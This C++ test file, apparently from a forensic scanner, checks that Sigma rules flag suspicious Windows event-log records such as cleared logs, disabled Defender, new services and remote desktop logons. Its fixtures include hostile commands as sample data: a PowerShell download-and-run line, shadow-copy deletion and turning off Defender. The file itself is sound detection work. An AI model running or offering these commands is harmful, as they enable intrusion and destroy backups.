// SPDX-License-Identifier: Apache-2.0
#include <algorithm>
#include <filesystem>
#include <set>

#include "scanners/rule_files.hpp"
#include "scanners/scanner.hpp"
#include "scanners/sigma_rules.hpp"
#include "scanners/versions.hpp"
#include "tests/support/catch.hpp"
#include "tests/support/support.hpp"
#include "tests/tools/bytes.hpp"
#include "tests/tools/evtx_writer.hpp"

using namespace trousse;
using namespace trousse::scanners;
using tools::at;

namespace {

using Data = std::vector<std::pair<std::string, std::string>>;

constexpr const char* cleared_rule = R"(
title: The log was cleared
title_fr: Le journal a été effacé
id: 6f2c1c7e-1d4b-4a35-9d0e-5b8f3a2c7e11
status: test
references:
    - https://example.org/1102
tags:
    - attack.t1070.001
logsource:
    product: windows
    service: security
detection:
    selection:
        EventID: 1102
    condition: selection
level: high
)";

tools::LogRecord event(const std::string& provider, std::uint16_t id, Data data = {}) {
  tools::LogRecord record;
  record.when = at("2026-11-19T02:44:00Z");
  record.provider = provider;
  record.id = id;
  record.data = std::move(data);
  return record;
}

tools::LogRecord cleared(const char* when) {
  tools::LogRecord record = event("Microsoft-Windows-Eventlog", 1102,
                                  {{"SubjectUserName", "Secretariat"}, {"SubjectDomainName", "-"}});
  record.user_data = "LogFileCleared";
  record.when = at(when);
  return record;
}

std::string security(const std::vector<tools::LogRecord>& records) {
  return tools::evtx_file("Security", "PC-01", records, 100);
}

struct Logs {
  tests::FakeVolume disk;
  ScanOptions options;
  tests::Ledger ledger;
  tests::TemporaryFolder folder;
  std::vector<Note> notes;

  explicit Logs(const std::string& rule) {
    options.own_rules = rule.empty();
    options.only = {"event_logs"};
    options.events = [this](const Event& event) {
      if (const auto* note = std::get_if<Note>(&event)) notes.push_back(*note);
    };
    if (rule.empty()) return;
    std::filesystem::create_directories(folder.path() / "rules");
    tests::write_file(folder.path() / "rules" / "one.yml", rule);
    options.sigma = {(folder.path() / "rules").string()};
  }

  Result<Scanned> run() {
    return scan_volume(
        [this]() -> Result<std::unique_ptr<disks::Volume>> {
          return std::unique_ptr<disks::Volume>(std::make_unique<tests::FakeVolume>(disk));
        },
        options, ledger);
  }

  std::size_t told(std::string_view id) const {
    return static_cast<std::size_t>(
        std::count_if(notes.begin(), notes.end(), [&](const Note& note) { return note.id == id; }));
  }
};

/// The file names of our own rules that match these events of one channel.
std::set<std::string> own_matches(const std::string& channel,
                                  const std::vector<tools::LogRecord>& records) {
  Logs logs("");
  logs.disk.contents = {{"/x.evtx", tools::evtx_file(channel, "PC-01", records)}};
  REQUIRE(logs.run());
  std::set<std::string> rules;
  for (const Finding& finding : logs.ledger.findings) rules.insert(finding.facts.at("rules"));
  return rules;
}

Data service(const std::string& name, const std::string& path) {
  return {{"ServiceName", name},
          {"ImagePath", path},
          {"ServiceType", "service en mode utilisateur"},
          {"StartType", "auto start"},
          {"AccountName", "LocalSystem"}};
}

Data logon(const std::string& type, const std::string& address) {
  return {{"TargetUserName", "Secretariat"}, {"LogonType", type}, {"IpAddress", address}};
}

tools::LogRecord session(std::uint16_t id, const std::string& address) {
  tools::LogRecord record =
      event("Microsoft-Windows-TerminalServices-LocalSessionManager", id,
            {{"User", "PC-01\\Secretariat"}, {"SessionID", "3"}, {"Address", address}});
  record.user_data = "EventXML";
  return record;
}

tools::LogRecord block(const std::string& text) {
  return event("Microsoft-Windows-PowerShell", 4104,
               {{"MessageNumber", "1"}, {"ScriptBlockText", text}, {"Path", ""}});
}

tools::LogRecord process(const std::string& program, const std::string& line) {
  return event("Microsoft-Windows-Security-Auditing", 4688,
               {{"NewProcessName", program}, {"CommandLine", line}});
}

constexpr const char* auditing = "Microsoft-Windows-Security-Auditing";
constexpr const char* defender = "Microsoft-Windows-Windows Defender";
constexpr const char* defender_log = "Microsoft-Windows-Windows Defender/Operational";
constexpr const char* scm = "Service Control Manager";
constexpr const char* power_shell_log = "Microsoft-Windows-PowerShell/Operational";
constexpr const char* session_log =
    "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational";
constexpr const char* firewall = "Microsoft-Windows-Windows Firewall With Advanced Security";

}  // namespace

TEST_CASE("A rule that matches a log gives one finding, with what a technician asks for") {
  Logs logs(cleared_rule);
  logs.disk.contents = {{"/Windows/System32/winevt/Logs/Security.evtx",
                         security({cleared("2026-11-19T02:44:00Z"), cleared("2026-11-18T02:44:00Z"),
                                   event(auditing, 4624, logon("2", "127.0.0.1"))})}};
  const auto scanned = logs.run();
  REQUIRE(scanned);
  CHECK(scanned->events == 3);
  CHECK(scanned->sigma_rules == 1);
  CHECK(scanned->rules == 0);
  CHECK(scanned->failed == 0);
  REQUIRE(logs.ledger.findings.size() == 1);
  const Finding& found = logs.ledger.findings[0];
  CHECK(found.kind == "event_log");
  CHECK(found.rule == "The log was cleared");
  CHECK(found.severity == Severity::high);
  CHECK(found.certainty == Certainty::possible);
  CHECK(found.path == "/Windows/System32/winevt/Logs/Security.evtx");
  CHECK(found.when == at("2026-11-19T02:44:00Z"));
  const std::map<std::string, std::string> expected{{"rules", "one.yml"},
                                                    {"id", "6f2c1c7e-1d4b-4a35-9d0e-5b8f3a2c7e11"},
                                                    {"title_fr", "Le journal a été effacé"},
                                                    {"count", "2"},
                                                    {"records", "100; 101"},
                                                    {"event_ids", "1102"},
                                                    {"first", "2026-11-18T02:44:00.0000000Z"},
                                                    {"last", "2026-11-19T02:44:00.0000000Z"},
                                                    {"channel", "Security"},
                                                    {"computer", "PC-01"},
                                                    {"details", "SubjectUserName: Secretariat"},
                                                    {"reference", "https://example.org/1102"},
                                                    {"tags", "attack.t1070.001"}};
  CHECK(found.facts == expected);
}

TEST_CASE("A log is known by its content, wherever it lies") {
  Logs logs(cleared_rule);
  const std::string log = security({cleared("2026-11-19T02:44:00Z")});
  logs.disk.contents = {{"/old.bin", log}, {"/Security.evtx", "not a log"}, {"/a.txt", "text"}};
  logs.disk.streams["/a.txt"]["hidden"] = log;
  const auto scanned = logs.run();
  REQUIRE(scanned);
  CHECK(logs.ledger.findings.size() == 2);
  CHECK(scanned->events == 2);
}

TEST_CASE("A log that is too large for memory is read by pieces") {
  Logs logs(cleared_rule);
  std::string log = security({cleared("2026-11-19T02:44:00Z")});
  const std::string chunk = log.substr(4096);
  while (log.size() <= 17 * 1024 * 1024) log += chunk;
  const std::size_t chunks = (log.size() - 4096) / chunk.size();
  logs.disk.contents = {{"/large.evtx", log}};
  REQUIRE(logs.run());
  REQUIRE(logs.ledger.findings.size() == 1);
  CHECK(logs.ledger.findings[0].facts.at("count") == std::to_string(chunks));
  CHECK(logs.ledger.findings[0].facts.at("records") ==
        "100; 100; 100; 100; 100; 100; 100; 100; 100; 100");
}

TEST_CASE("What of a log is damaged is told, and the rest is judged") {
  Logs logs(cleared_rule);
  std::string log = security({cleared("2026-11-19T02:44:00Z"), cleared("2026-11-19T02:45:00Z")});
  log[4096 + 512] = 'x';
  logs.disk.contents = {{"/s.evtx", log}};
  const auto scanned = logs.run();
  REQUIRE(scanned);
  // The first event holds the template that the second one uses.
  CHECK(scanned->failed == 1);
  CHECK(logs.told("scan_unreadable") == 1);
}

TEST_CASE("A log that takes longer than a file may is cut, and that is told") {
  ScanOptions options;
  options.file_timeout = std::chrono::seconds(0);
  Setup setup{options, "C", {}};
  setup.rules.sigma = std::make_shared<formats::SigmaRules>();
  const auto examiner = event_logs(setup)->examiner();
  REQUIRE(examiner);
  const auto bytes = tests::bytes_of(security({cleared("2026-11-19T02:44:00Z")}));
  File file;
  const Subject subject{file, file.streams.emplace_back(), "C", {}, {}, bytes, bytes, nullptr};
  const auto found = (*examiner)->look(subject);
  REQUIRE(found.size() == 1);
  CHECK(found[0].kind == "scan_cut");
  CHECK(found[0].facts.at("why") == "time ran out");
  CHECK((*examiner)->besides().seen.events == 0);
}

TEST_CASE("Long values are cut between two characters") {
  Logs logs(cleared_rule);
  tools::LogRecord record = cleared("2026-11-19T02:44:00Z");
  std::string name;
  for (int i = 0; i < 150; ++i) name += "é";
  record.data[0].second = "x" + name;
  logs.disk.contents = {{"/s.evtx", security({record})}};
  REQUIRE(logs.run());
  REQUIRE(logs.ledger.findings.size() == 1);
  CHECK(logs.ledger.findings[0].facts.at("details") ==
        "SubjectUserName: x" + name.substr(0, 198) + "\u2026");
}

TEST_CASE("Rules that cannot be used are named once and counted, the others work") {
  Logs logs(cleared_rule);
  tests::write_file(logs.folder.path() / "rules" / "broken.yaml", "title: [");
  tests::write_file(logs.folder.path() / "rules" / "notes.txt", "no rule");
  logs.disk.contents = {{"/s.evtx", security({cleared("2026-11-19T02:44:00Z")})}};
  const auto scanned = logs.run();
  REQUIRE(scanned);
  CHECK(scanned->sigma_rules == 1);
  CHECK(scanned->rules_left_out == 1);
  CHECK(logs.told("rule_left_out") == 1);
  CHECK(logs.ledger.findings.size() == 1);
}

TEST_CASE("A folder of rules without Sigma rules is no error, one that is missing is") {
  Logs logs(cleared_rule);
  std::filesystem::create_directories(logs.folder.path() / "yara");
  tests::write_file(logs.folder.path() / "yara" / "a.yar", "rule a { condition: true }");
  logs.options.sigma = {(logs.folder.path() / "yara").string()};
  logs.disk.contents = {{"/s.evtx", security({cleared("2026-11-19T02:44:00Z")})}};
  const auto scanned = logs.run();
  REQUIRE(scanned);
  CHECK(scanned->sigma_rules == 0);
  CHECK(logs.ledger.findings.empty());
  logs.options.sigma = {(logs.folder.path() / "none").string()};
  const auto missing = logs.run();
  REQUIRE_FALSE(missing);
  CHECK(missing.error().code == Errc::missing);
}

TEST_CASE("Sigma rules in use are named as sets, ours apart from those given") {
  Logs logs(cleared_rule);
  logs.options.own_rules = true;
  const auto sets = rule_sets(logs.options);
  REQUIRE(sets);
  REQUIRE(sets->size() == 2);
  CHECK((*sets)[0].name == "sigma");
  CHECK((*sets)[0].files > 20);
  CHECK((*sets)[1].name == "sigma-given");
  CHECK((*sets)[1].files == 1);
}

TEST_CASE("All our own Sigma rules are in use") {
  Logs logs("");
  const auto files = read_sigma_files({}, true);
  REQUIRE(files);
  const auto scanned = logs.run();
  REQUIRE(scanned);
  for (const Note& note : logs.notes) UNSCOPED_INFO(note.detail);
  CHECK(scanned->rules_left_out == 0);
  CHECK(scanned->sigma_rules == files->size());
  CHECK(files->size() > 20);
}

TEST_CASE("Each of our own rules sees the event that it is for") {
  struct Case {
    const char* channel;
    tools::LogRecord record;
    std::set<std::string> rules;
  };
  const std::string setting =
      "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\"
      "DisableRealtimeMonitoring = 0x1";
  const std::string exclusion =
      "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\Public = 0x0";
  tools::LogRecord other_cleared =
      event("Microsoft-Windows-Eventlog", 104, {{"Channel", "System"}});
  other_cleared.user_data = "LogFileCleared";
  const std::vector<Case> cases{
      {"Security", cleared("2026-11-19T02:44:00Z"), {"security_log_cleared.yml"}},
      {"System", other_cleared, {"other_log_cleared.yml"}},
      {defender_log, event(defender, 1117, {{"Threat Name", "X"}}), {"defender_detection.yml"}},
      {defender_log, event(defender, 1119), {"defender_not_removed.yml"}},
      {defender_log, event(defender, 5001), {"defender_off.yml"}},
      {defender_log, event(defender, 5007, {{"New Value", setting}}), {"defender_setting_off.yml"}},
      {defender_log, event(defender, 5007, {{"New Value", exclusion}}), {"defender_exclusion.yml"}},
      {"System",
       event(scm, 7045, service("x", "C:\\Users\\Public\\a.exe -s")),
       {"service_from_user_folder.yml"}},
      {"System",
       event(scm, 7045, service("x", "C:\\Users\\a\\AppData\\Local\\Temp\\b.sys")),
       {"driver_from_user_folder.yml"}},
      {"System",
       event(scm, 7045, service("x", "%COMSPEC% /Q /c echo dir")),
       {"service_with_script.yml"}},
      {"System",
       event(scm, 7045, service("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")),
       {"remote_execution_service.yml"}},
      {"System",
       event(scm, 7045, service("AnyDesk Service", "C:\\Program Files\\AnyDesk\\AnyDesk.exe")),
       {"remote_control_service.yml"}},
      {"Security",
       event(auditing, 4624, logon("10", "203.0.113.66")),
       {"remote_desktop_from_internet.yml"}},
      {session_log, session(25, "203.0.113.66"), {"remote_desktop_session_from_internet.yml"}},
      {"Security", event(auditing, 4720, {{"TargetUserName", "nouveau"}}), {"account_created.yml"}},
      {"Security",
       event(auditing, 4720, {{"TargetUserName", "support$"}}),
       {"account_created.yml", "hidden_account_created.yml"}},
      {"Security",
       event(auditing, 4732, {{"TargetSid", "S-1-5-32-544"}}),
       {"administrator_added.yml"}},
      {"Security",
       event(auditing, 4732, {{"TargetSid", "S-1-5-32-555"}}),
       {"remote_desktop_user_added.yml"}},
      {"Security",
       event(auditing, 4698, {{"TaskContent", "<Exec>powershell.exe -w hidden</Exec>"}}),
       {"task_with_script.yml"}},
      {"Microsoft-Windows-TaskScheduler/Operational",
       event("Microsoft-Windows-TaskScheduler", 200,
             {{"ActionName", "C:\\Users\\Public\\Libraries\\svchost32.exe"}}),
       {"task_from_public_folder.yml"}},
      {power_shell_log,
       block("IEX (New-Object Net.WebClient).DownloadString('http://x/')"),
       {"powershell_download_and_run.yml"}},
      {power_shell_log,
       block("Set-MpPreference -DisableRealtimeMonitoring $true"),
       {"powershell_defender_off.yml"}},
      {power_shell_log,
       block("Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }"),
       {"powershell_shadow_copies.yml"}},
      {"Security",
       process("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
       {"backup_copies_destroyed.yml"}},
      {"Microsoft-Windows-Bits-Client/Operational",
       event("Microsoft-Windows-Bits-Client", 59, {{"url", "http://203.0.113.66/a.exe"}}),
       {"bits_odd_address.yml"}},
      {"Microsoft-Windows-Windows Firewall With Advanced Security/Firewall",
       event(firewall, 2003, {{"SettingType", "1"}, {"SettingValue", "00000000"}}),
       {"firewall_off.yml"}},
      {"Microsoft-Windows-Windows Firewall With Advanced Security/Firewall",
       event(firewall, 2004, {{"ApplicationPath", "C:\\Users\\Public\\a.exe"}}),
       {"firewall_rule_public_folder.yml"}},
  };
  std::set<std::string> seen;
  for (const Case& one : cases) {
    INFO(*one.rules.begin());
    CHECK(own_matches(one.channel, {one.record}) == one.rules);
    seen.insert(one.rules.begin(), one.rules.end());
  }
  const auto files = read_sigma_files({}, true);
  REQUIRE(files);
  CHECK(seen.size() == files->size());
}

TEST_CASE("What a healthy computer writes every day matches none of our own rules") {
  CHECK(own_matches("Security",
                    {event(auditing, 4624, logon("2", "127.0.0.1")),
                     event(auditing, 4624, logon("3", "203.0.113.66")),
                     event(auditing, 4624, logon("10", "192.168.1.20")),
                     event(auditing, 4624, logon("10", "fe80::1c2d:3e4f")),
                     event(auditing, 4624, logon("10", "-")),
                     event(auditing, 4732, {{"TargetSid", "S-1-5-32-545"}}),
                     event(auditing, 4698,
                           {{"TaskContent",
                             "<Exec><Command>C:\\Program Files\\a.exe</Command>"
                             "</Exec><Hidden>false</Hidden>"}}),
                     process("C:\\Windows\\System32\\vssadmin.exe", "vssadmin list shadows")})
            .empty());
  CHECK(own_matches("System",
                    {event(scm, 7036, {{"param1", "Windows Update"}, {"param2", "running"}}),
                     event(scm, 7045,
                           service("MpKsl1",
                                   "C:\\ProgramData\\Microsoft\\Windows "
                                   "Defender\\Definition Updates\\x.sys")),
                     event(scm, 7045,
                           service("edgeupdate",
                                   "\"C:\\Program Files (x86)\\Microsoft\\"
                                   "EdgeUpdate\\MicrosoftEdgeUpdate.exe\" "
                                   "/svc"))})
            .empty());
  CHECK(own_matches(session_log, {session(21, "LOCAL"), session(25, "10.0.0.7")}).empty());
  CHECK(own_matches(defender_log, {event(defender, 1001), event(defender, 2000),
                                   event(defender, 5007,
                                         {{"New Value",
                                           "HKLM\\SOFTWARE\\Microsoft\\Windows "
                                           "Defender\\Signature = 0x1"}})})
            .empty());
  CHECK(own_matches(power_shell_log, {block("Get-ChildItem C:\\Windows")}).empty());
}
